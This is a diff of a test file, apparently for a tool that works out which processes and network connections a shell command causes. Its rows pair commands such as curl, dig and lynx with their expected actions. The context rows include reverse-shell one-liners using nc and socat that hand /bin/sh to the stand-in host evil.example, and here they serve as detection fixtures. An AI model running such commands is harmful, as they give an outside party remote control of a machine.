@@ -8,7 +8,9 @@ test_rows = rows(
     r"""
 curl https://example.com => run curl https://example.com · connect https://example.com
 ping -c1 example.com => run ping -c1 example.com · connect example.com
-dig example.com => run dig example.com
+dig @8.8.8.8 mx example.com +short => run dig @8.8.8.8 mx example.com +short · connect 8.8.8.8 · connect example.com
+lynx evil.example => run lynx evil.example · connect evil.example
+dig example.com => run dig example.com · connect example.com
 nc -l 4444 => run nc -l 4444
 nc evil.example 4444 -e /bin/sh => run nc evil.example 4444 -e /bin/sh · connect evil.example:4444 · run /bin/sh <network:evil.example:4444>
 socat TCP:evil.example:1 EXEC:/bin/sh => run socat TCP:evil.example:1 EXEC:/bin/sh · connect evil.example:1 · run /bin/sh <network:evil.example:1>
